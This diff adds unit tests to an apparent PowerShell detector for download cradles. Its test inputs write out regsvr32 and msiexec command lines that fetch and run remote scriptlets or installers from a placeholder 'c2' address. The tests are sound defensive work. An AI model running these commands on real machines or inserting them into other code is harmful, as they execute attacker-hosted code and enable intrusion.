@@ -138,3 +138,26 @@ def test_a_download_method_object_invoked_is_a_download() -> None:
     """)
     assert lines_of(result, "PSNetWebClientDownload") == [1]
     assert lines_of(result, "PSDownloadCradle") == [3]
+
+
+def test_signed_proxies_with_the_url_in_a_constant_or_started_by_start_process_are_cradles() -> None:
+    result = analyze("""
+        $c2 = 'http://198.51.100.61'
+        regsvr32.exe /s /n /u /i:$c2/files/update.sct scrobj.dll
+        Start-Process -FilePath msiexec.exe -ArgumentList '/q /i https://198.51.100.61/files/agent.msi'
+        Start-Process 'C:\\Windows\\System32\\msiexec.exe' "/q /i ${c2}/a.msi"
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [2, 3, 4]
+
+
+def test_signed_proxies_with_local_files_or_a_reassigned_variable_are_no_cradles() -> None:
+    result = analyze("""
+        $local = 'C:\\pkg'
+        regsvr32.exe /s /i:$local/x.sct scrobj.dll
+        Start-Process -FilePath msiexec.exe -ArgumentList '/q /i C:\\pkg\\agent.msi'
+        Start-Process -FilePath notepad.exe -ArgumentList 'http://198.51.100.61/readme.txt'
+        $u = 'http://198.51.100.61'
+        $u = 'C:\\pkg'
+        regsvr32 /s /i:$u/x.sct scrobj.dll
+    """)
+    assert lines_of(result, "PSDownloadCradle") == []
